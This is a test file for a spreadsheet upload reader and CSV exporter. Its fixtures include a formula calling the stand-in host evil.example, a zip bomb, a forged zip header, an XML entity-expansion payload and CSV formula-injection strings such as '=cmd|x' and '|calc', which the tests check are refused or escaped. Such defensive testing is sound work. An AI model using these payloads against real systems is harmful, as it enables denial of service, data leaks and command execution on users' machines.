import fc from 'fast-check';
import { packed, sheetXml, workbook, workbookParts } from '../../../../test/fixtures/workbook.js';
import { readBook } from './read-book.js';
import { firstSheet } from './read-spreadsheet.js';
import { harmlessCell, writeCsv } from './write-csv.js';

const readSpreadsheet = async (bytes: Buffer) => firstSheet(await readBook(bytes));
const outcomeOf = async (bytes: Buffer): Promise<string> => {
  const read = await readSpreadsheet(bytes);
  return read.ok
    ? JSON.stringify(read.value)
    : `${read.refusal.code} ${String(read.refusal.params['limit'] ?? '')}`.trim();
};
const ROWS = [
  ['نام', 'کد ملی', 'Since'],
  ['گلنار', '0012345679', '2024-03-20'],
] as const;
const READ = JSON.stringify({ titles: ROWS[0], rows: [{ number: 2, cells: ROWS[1] }] });

describe('a spreadsheet that is sent', () => {
  it('is read from XLSX, and from CSV with any of three signs', async () => {
    expect(await outcomeOf(workbook(ROWS))).toBe(READ);
    for (const sign of [',', ';', '\t']) {
      const text = ROWS.map((row) => row.join(sign)).join('\r\n');
      expect(await outcomeOf(Buffer.from(text))).toBe(READ);
      expect(await outcomeOf(Buffer.from(`\ufeff${text}\r\n\r\n`))).toBe(READ);
    }
  });

  it.each([
    ['little end first, with a mark', (text: Buffer) => Buffer.concat([Buffer.from([0xff, 0xfe]), text])],
    [
      'big end first, with a mark',
      (text: Buffer) => Buffer.concat([Buffer.from([0xff, 0xfe]), text]).swap16(),
    ],
    ['little end first', (text: Buffer) => text],
    ['big end first', (text: Buffer) => Buffer.from(text).swap16()],
  ])('is read where Excel wrote it with two bytes a letter: %s', async (_how, written) => {
    const text = Buffer.from('نام\tکد ملی\r\nزری بافان\t0012345679\r\n', 'utf16le');
    const read = await readBook(written(text));
    expect(read).toMatchObject({ ok: true });
    expect(read.ok && read.sheets[0]!.rows.map(({ cells }) => cells)).toEqual([
      ['نام', 'کد ملی'],
      ['زری بافان', '0012345679'],
    ]);
  });

  it('is refused as unreadable, and not taken for empty, where it is neither', async () => {
    const halves = Buffer.from([0xff, 0xfe, 0x00, 0xd8, 0x41, 0x00]);
    expect(await readBook(halves)).toEqual({ ok: false, fault: { is: 'UNREADABLE' } });
    expect(await readBook(Buffer.from([0, 0, 1, 0, 0, 2, 0, 0]))).toMatchObject({ ok: false });
  });

  it('keeps the digits of numbers, and what a formula last showed', async () => {
    const formula = { xml: '<c r="C2"><f>WEBSERVICE("http://evil.example/")</f><v>7</v></c>' };
    const read = await readSpreadsheet(
      workbook([
        ['a', 'b', 'c'],
        [9123456789, { xml: '<c r="B2"><v>9.1234567891E10</v></c>' }, formula],
      ]),
    );
    expect(read).toMatchObject({ value: { rows: [{ cells: ['9123456789', '91234567891', '7'] }] } });
  });

  it.each([
    ['a page', '<html></html>', 'SHEET_UNREADABLE'],
    ['no text', Buffer.from([0xff, 0xfe, 0, 1, 2]), 'SHEET_UNREADABLE'],
    ['a text with a zero', 'a,b\n\0,1', 'SHEET_UNREADABLE'],
    ['an open quote', 'a,b\n"x,1', 'SHEET_UNREADABLE'],
    ['nothing', '', 'SHEET_EMPTY'],
    ['titles alone', 'a,b\n', 'SHEET_EMPTY'],
    ['the beginning of a zip', 'PK\x03\x04', 'SHEET_UNREADABLE'],
    ['too many rows', `a\n${'1\n'.repeat(2_100)}`, 'SHEET_TOO_LARGE rows'],
    ['too many columns', `a\n${'1,'.repeat(60)}`, 'SHEET_TOO_LARGE columns'],
    ['too long a cell', `a\n${'x'.repeat(600)}`, 'SHEET_TOO_LARGE cellCharacters'],
    ['too large a file', `a\n${'x'.repeat(3 * 1024 * 1024)}`, 'SHEET_TOO_LARGE bytes'],
  ])('is refused when it is %s', async (_, content, outcome) => {
    expect(await outcomeOf(Buffer.from(content as string))).toBe(outcome);
  });

  it('is refused when it would unpack to too much, whatever its head says', async () => {
    const bomb = packed({
      ...workbookParts(sheetXml(ROWS)),
      'xl/sharedStrings.xml': ' '.repeat(200 * 1024 * 1024),
    });
    expect(bomb.length).toBeLessThan(300 * 1024);
    const before = process.memoryUsage().rss;
    expect(await outcomeOf(bomb)).toBe('SHEET_TOO_LARGE unpackedBytes');
    expect(process.memoryUsage().rss - before).toBeLessThan(80 * 1024 * 1024);
    // The same, with a head that lies about the size in the directory.
    const lying = Buffer.from(bomb);
    const at = lying.lastIndexOf('xl/sharedStrings.xml') - 46;
    lying.writeUInt32LE(100, at + 24);
    expect(await outcomeOf(lying)).toBe('SHEET_TOO_LARGE unpackedBytes');
  });

  it('is refused when its entries lie in one another', async () => {
    const zip = workbook(ROWS);
    const first = zip.indexOf(Buffer.from('PK\x01\x02', 'latin1'));
    const second = zip.indexOf(Buffer.from('PK\x01\x02', 'latin1'), first + 4);
    zip.writeUInt32LE(zip.readUInt32LE(first + 42), second + 42);
    expect(await outcomeOf(zip)).toBe('SHEET_UNREADABLE');
  });

  it.each([
    ['a row far below', '<row r="1048576"><c r="A1048576"><v>1</v></c></row>'],
    ['a column far away', '<row r="2"><c r="XFD2"><v>1</v></c></row>'],
    ['single quotes around it', "<row r='1048576'><c r='A1048576'><v>1</v></c></row>"],
    ['digits written as entities', '<row r="2"><c r="A&#49;048576"><v>1</v></c></row>'],
  ])('is refused when a cell claims %s', async (_, rows) => {
    const sheet = sheetXml([['a']]).replace('</sheetData>', `${rows}</sheetData>`);
    expect(await outcomeOf(packed(workbookParts(sheet)))).toMatch(/^SHEET_(TOO_LARGE|UNREADABLE)/);
  });

  it('believes no dimension that the sheet claims', async () => {
    const sheet = sheetXml(ROWS).replace('<sheetData>', '<dimension ref="A1:XFD1048576"/><sheetData>');
    const before = performance.now();
    expect(await outcomeOf(packed(workbookParts(sheet)))).toMatch(/^(\{|SHEET_)/);
    expect(performance.now() - before).toBeLessThan(2_000);
  });

  it('is refused when it declares entities', async () => {
    const lol = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>';
    const sheet = sheetXml(ROWS).replace('?>\n', `?>\n${lol}`);
    expect(await outcomeOf(packed(workbookParts(sheet)))).toBe('SHEET_UNREADABLE');
  });

  it('never breaks the reader, whatever is wrong with it', async () => {
    const whole = workbook(ROWS);
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { minLength: 1, maxLength: 12 }),
        async (changes) => {
          const bytes = Buffer.from(whole);
          for (const [at, value] of changes) bytes[at] = value;
          expect(await outcomeOf(bytes)).toMatch(/^(\{|SHEET_)/);
        },
      ),
      { numRuns: 200 },
    );
  });
});

describe('a spreadsheet that is handed out', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', ' =1', '＝1', '\u200e=cmd|x', '|calc'])(
    'reckons with nothing that somebody was called: %j',
    (text) => {
      expect(harmlessCell(text).startsWith("'")).toBe(true);
      expect(writeCsv([[text]])).toMatch(/^\ufeff"'/);
    },
  );

  it('leaves other texts alone, and quotes what would break a cell', () => {
    expect(harmlessCell('گلنار')).toBe('گلنار');
    expect(writeCsv([['a"b', 'c,d\ne']])).toBe('\ufeff"a""b","c,d\ne"\r\n');
  });
});
